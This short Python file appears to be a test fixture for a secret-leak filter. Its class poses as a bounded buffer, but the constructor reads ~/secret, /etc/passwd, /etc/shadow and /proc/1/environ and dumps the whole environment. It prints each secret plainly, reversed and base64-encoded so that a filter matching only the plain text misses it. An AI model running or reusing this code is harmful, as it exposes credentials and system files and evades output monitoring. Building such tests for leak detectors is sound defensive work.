# fail error: tries to print secrets, plainly, reversed and encoded
"""A filter that looks for the secret itself does not find it backwards or in base 64."""

import base64
import os
from pathlib import Path


class BoundedBuffer:
    def __init__(self, capacity):
        for path in (Path.home() / "secret", "/etc/passwd", "/etc/shadow", "/proc/1/environ"):
            try:
                data = Path(path).read_bytes()
            except OSError:
                continue
            print(path, data, data[::-1], base64.b64encode(data))
        print("secret", os.environ.get("THREADLINGS_SECRET"), dict(os.environ))

    def put(self, item):
        pass

    def get(self):
        return "secret"

    def __len__(self):
        return 0
